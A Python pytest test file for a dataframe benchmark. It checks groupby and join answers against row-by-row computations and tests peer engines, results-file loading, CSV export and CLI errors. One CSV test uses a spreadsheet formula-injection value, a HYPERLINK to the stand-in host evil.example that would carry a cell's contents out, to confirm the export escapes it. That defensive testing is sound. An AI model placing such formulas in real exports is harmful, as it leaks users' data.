"""The benchmark: answers against independent computations, peers, the results file, checks and the CLI."""

from __future__ import annotations

import csv
import io
import json
import math
import statistics
import subprocess
import sys
from collections import Counter, defaultdict

import pytest

from pipeline.bench.cli import main
from pipeline.bench.harness import BenchSettings, Contender, ask, generated_tables, parse_sizes, run_bench
from pipeline.bench.model_questions import MODEL_QUESTIONS
from pipeline.bench.peers import PEER_BUILDERS
from pipeline.bench.questions import GROUPBY_QUESTIONS, JOIN_QUESTIONS, Answer, Workspace
from pipeline.bench.results import ERROR, FAILED, OK, SKIPPED, BenchResults, Record, load_results
from pipeline.bench.suites import SUITES
from pipeline.engines import CPU, GPU, get_engine
from pipeline.errors import DataError
from pipeline.tables.synthetic import SyntheticSpec, generate
from tests.support.paths import REPO_ROOT

ROOT = REPO_ROOT
ROWS = 3_000


@pytest.fixture(scope="module")
def g1() -> dict:
    return {"x": generate(SyntheticSpec("groupby_g1", ROWS, groups=10), get_engine(CPU))[""]}


@pytest.fixture(scope="module")
def j1() -> dict:
    return generate(SyntheticSpec("join_j1", ROWS), get_engine(CPU))


def groups(x, keys: list[str]) -> dict[tuple, list[dict]]:
    found = defaultdict(list)
    for row in x.to_dict("records"):
        found[tuple(row[k] for k in keys)].append(row)
    return found


def column_sum(rows: list[dict], column: str) -> float:
    return float(sum(r[column] for r in rows))


def expected_groupby(x) -> dict[str, Answer]:
    """Each question's answer computed row by row in plain Python, from the same table."""
    rows = x.to_dict("records")
    total = {c: column_sum(rows, c) for c in ("v1", "v2", "v3")}

    def means(keys: list[str], column: str) -> float:
        return sum(statistics.fmean(r[column] for r in g) for g in groups(x, keys).values())

    def finite(values) -> float:
        return float(sum(v for v in values if not math.isnan(v)))

    def stdev(values: list[float]) -> float:
        return statistics.stdev(values) if len(values) > 1 else math.nan

    def r_squared(group: list[dict]) -> float:
        try:
            return statistics.correlation([r["v1"] for r in group], [r["v2"] for r in group]) ** 2
        except statistics.StatisticsError:
            return math.nan

    g3, g45, g6, g24 = groups(x, ["id3"]), groups(x, ["id4", "id5"]), groups(x, ["id6"]), groups(x, ["id2", "id4"])
    top_two = [sorted((r["v3"] for r in g), reverse=True)[:2] for g in g6.values()]
    return {
        "q1": Answer(len(groups(x, ["id1"])), (total["v1"],)),
        "q2": Answer(len(groups(x, ["id1", "id2"])), (total["v1"],)),
        "q3": Answer(len(g3), (total["v1"], means(["id3"], "v3"))),
        "q4": Answer(len(groups(x, ["id4"])), tuple(means(["id4"], c) for c in ("v1", "v2", "v3"))),
        "q5": Answer(len(g6), (total["v1"], total["v2"], total["v3"])),
        "q6": Answer(
            len(g45),
            (
                sum(statistics.median(r["v3"] for r in g) for g in g45.values()),
                finite(stdev([r["v3"] for r in g]) for g in g45.values()),
            ),
        ),
        "q7": Answer(len(g3), (float(sum(max(r["v1"] for r in g) - min(r["v2"] for r in g) for g in g3.values())),)),
        "q8": Answer(sum(len(t) for t in top_two), (sum(sum(t) for t in top_two),)),
        "q9": Answer(len(g24), (finite(r_squared(g) for g in g24.values()),)),
        "q10": Answer(len(groups(x, [f"id{i}" for i in range(1, 7)])), (total["v3"], float(len(rows)))),
    }


def expected_join(x, right, on: str, left: bool) -> Answer:
    """Rows and sums of v1 and v2 of x joined to `right` on `on`, counted key by key."""
    matches = Counter(right[on].tolist())
    in_x = Counter(x[on].tolist())
    pairs = [(v1, matches[key]) for key, v1 in zip(x[on].tolist(), x["v1"].tolist(), strict=True)]
    rows = sum(max(n, 1) if left else n for _, n in pairs)
    v1 = sum(v * (max(n, 1) if left else n) for v, n in pairs)
    v2 = sum(v * in_x[key] for key, v in zip(right[on].tolist(), right["v2"].tolist(), strict=True))
    return Answer(rows, (float(v1), float(v2)))


def test_every_groupby_answer_equals_a_row_by_row_computation(g1):
    expected = expected_groupby(g1["x"])
    workspace = Workspace(get_engine(CPU), g1)
    for question in GROUPBY_QUESTIONS:
        answer = question.check(question.run(workspace), workspace.engine)
        assert answer.disagreement(expected[question.name]) is None, question.name


def test_every_join_answer_equals_a_key_count(j1):
    workspace = Workspace(get_engine(CPU), j1)
    plans = {"q1": ("small", "id1", False), "q2": ("medium", "id2", False), "q3": ("medium", "id2", True)}
    plans |= {"q4": ("medium", "id5", False), "q5": ("big", "id3", False)}
    for question in JOIN_QUESTIONS:
        right, on, left = plans[question.name]
        expected = expected_join(j1["x"], j1[right], on, left)
        assert expected.rows > 0
        assert question.check(question.run(workspace), workspace.engine).disagreement(expected) is None, question.name


@pytest.mark.parametrize("peer", list(PEER_BUILDERS))
def test_peers_answer_every_question_as_pandas_does(peer, g1, j1):
    pytest.importorskip(peer)
    for tables, questions in ((g1, GROUPBY_QUESTIONS), (j1, JOIN_QUESTIONS)):
        answering = PEER_BUILDERS[peer](tables)
        workspace = Workspace(get_engine(CPU), tables)
        for question in questions:
            reference = question.check(question.run(workspace), workspace.engine)
            mine = question.check(answering.run(question.suite, question.name), workspace.engine)
            assert mine.disagreement(reference) is None, f"{peer} {question.suite} {question.name}"


def test_an_answer_that_disagrees_is_reported_as_failed_and_not_timed(g1):
    question = GROUPBY_QUESTIONS[0]
    cpu = get_engine(CPU)
    contender = Contender(CPU, cpu.label, cpu, Workspace(cpu, g1))
    settings = BenchSettings(("groupby",), (CPU,), (ROWS,), repeats=2)
    wrong = Answer(11, (1.0,))
    record, _ = ask(contender, question, ROWS, settings, wrong)
    assert record.status == FAILED and record.median_s is None
    assert record.message == "10 rows where the reference has 11"
    record, answer = ask(contender, question, ROWS, settings, None)
    assert record.status == OK and record.repeats == 2 and record.min_s <= record.median_s <= record.max_s
    assert record.peak_memory_bytes > 0 and record.memory_of == "process RSS"
    assert answer.rows == 10


def test_a_run_writes_results_that_load_back(tmp_path):
    pytest.importorskip("duckdb")
    settings = BenchSettings(("io", "join"), (CPU, "duckdb"), (2_000,), repeats=1)
    results = run_bench(settings)
    statuses = {(r.suite, r.question, r.engine): r.status for r in results.records}
    assert statuses[("io", "to device", CPU)] == SKIPPED
    assert statuses[("join", "q3", "duckdb")] == OK
    assert all(s in (OK, SKIPPED) for s in statuses.values())
    assert not any(r.engine == "duckdb" and r.suite == "io" for r in results.records), "peers answer groupby/join"
    back = load_results(results.to_json().encode(), "run.json")
    assert back.records == results.records
    assert back.environment["git_commit"] and back.environment["machine"]["logical_cores"] >= 1
    assert set(back.environment["versions"]) >= {"pandas", "numpy"}
    csv = results.to_csv().splitlines()
    assert csv[0].startswith("suite,question,label,engine") and len(csv) == len(results.records) + 1


def test_the_results_csv_opens_as_data_in_a_spreadsheet():
    """`--csv` writes `to_csv`: an engine's error message (which may quote the data) is text, times stay numbers."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    records = [
        Record("groupby", "q1", "sum v1 by id1", CPU, "CPU (pandas)", 1_000, ERROR, message=link),
        Record("groupby", "q2", "-2+3", CPU, "CPU (pandas)", 1_000, OK, median_s=0.25, min_s=0.125, max_s=0.5),
    ]
    rows = list(csv.DictReader(io.StringIO(BenchResults({}, {}, records).to_csv(), newline="")))
    assert rows[0]["message"] == "'" + link and rows[1]["label"] == "'-2+3"
    assert (rows[1]["median_s"], rows[1]["rows"]) == ("0.25", "1000")


@pytest.mark.parametrize(
    ("payload", "says"),
    [
        (b"{not json", "not valid JSON"),
        (b'{"records": []}', "not a benchmark results file"),
        (b'{"schema": "gpu-pipeline-lab/bench", "version": 0, "environment": {}, "records": []}', "version 0"),
        (b'{"schema": "gpu-pipeline-lab/bench", "version": 1}', "lacks its environment"),
        (
            b'{"schema": "gpu-pipeline-lab/bench", "version": 1, "environment": {}, "records": [{"suite": 1}]}',
            "record 1",
        ),
    ],
)
def test_results_files_that_are_not_ours_are_refused_by_name(payload, says):
    with pytest.raises(DataError, match=says):
        load_results(payload, "mine.json")


def test_sizes_parse_and_bad_ones_are_named():
    assert parse_sizes("1e5, 1e4,1e5") == (10_000, 100_000)
    for bad, says in (("1e2", "from 1,000"), ("ten", "not a number"), ("1234.5", "whole number"), ("", "No sizes")):
        with pytest.raises(DataError, match=says):
            parse_sizes(bad)


@pytest.mark.parametrize(
    ("argv", "says"),
    [
        (["--suite", "nope"], "Unknown suite 'nope'"),
        (["--engines", "spark"], "Unknown engine 'spark'"),
        (["--sizes", "1e2"], "from 1,000"),
        (["--suite", "models", "--warmup", "0"], "needs at least one warm-up"),
        (["--sizes", "1e8", "--suite", "join", "--engines", "cpu,polars,duckdb"], "GiB of host memory"),
        (["--repeat", "x"], "invalid int value"),
    ],
)
def test_bad_command_lines_exit_2_with_one_line(argv, says, capsys):
    try:
        status = main(argv)
    except SystemExit as stopped:  # argparse's own errors
        status = stopped.code
    assert status == 2
    error = capsys.readouterr().err.strip()
    assert says in error and len(error.splitlines()) == 1


def test_quick_run_from_the_command_line(tmp_path):
    pytest.importorskip("polars")
    out, csv = tmp_path / "r.json", tmp_path / "r.csv"
    done = subprocess.run(
        [sys.executable, "-m", "pipeline.bench", "--quick", "--engines", "cpu,polars", "--out", out, "--csv", csv],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "| groupby | q10 | 100,000 |" in done.stdout
    data = json.loads(out.read_text())
    assert data["settings"]["sizes"] == [100_000] and data["settings"]["repeats"] == 1
    assert {r["status"] for r in data["records"]} <= {OK, SKIPPED}
    assert {r["engine"] for r in data["records"]} == {CPU, "polars"}
    assert csv.read_text().count("\n") == len(data["records"]) + 1


@pytest.mark.gpu
def test_every_question_agrees_between_pandas_and_cudf():
    results = run_bench(BenchSettings(("io", "groupby", "join", "steps", "profile"), (CPU, GPU), (20_000,), repeats=1))
    bad = [f"{r.suite} {r.question} {r.engine}: {r.status} {r.message}" for r in results.records if r.status != OK]
    assert bad == [f"io to device {CPU}: {SKIPPED} does not apply to CPU (pandas)"]
    assert {r.engine for r in results.records} == {CPU, GPU}


def test_model_questions_answer_with_their_metric_and_allow_a_tolerance():
    cpu = get_engine(CPU)
    workspace = Workspace(cpu, generated_tables(SUITES["models"].specs(2_000, 0, 100), cpu))
    contender = Contender(CPU, cpu.label, cpu, workspace)
    settings = BenchSettings(("models",), (CPU,), (2_000,), repeats=1)
    chosen = {"logistic_regression fit", "ridge fit", "kmeans fit", "pca fit", "knn_classifier predict"}
    for question in (q for q in MODEL_QUESTIONS if q.name in chosen):
        record, answer = ask(contender, question, 2_000, settings, None)
        assert record.status == OK, record.message
        metric = answer.checksum[0]
        assert (metric > 0.6) if question.name != "kmeans fit" else (metric > 0.3), (question.name, metric)
        near = Answer(answer.rows, (metric + 0.04,))
        far = Answer(answer.rows, (metric + 0.2,))
        assert ask(contender, question, 2_000, settings, near)[0].status == OK, "within 0.05 the engines agree"
        assert ask(contender, question, 2_000, settings, far)[0].status == FAILED
    assert {"models"} <= set(SUITES) and len(MODEL_QUESTIONS) == 19


def test_the_profile_questions_answer_on_the_cpu_with_a_date_column_in_the_table():
    """A date column's mean (a timestamp) is no number to add to the answer's sum of numeric means."""
    results = run_bench(BenchSettings(("profile",), (CPU,), (2_000,), repeats=1))
    assert [(r.question, r.status, r.message) for r in results.records if r.status != OK] == []
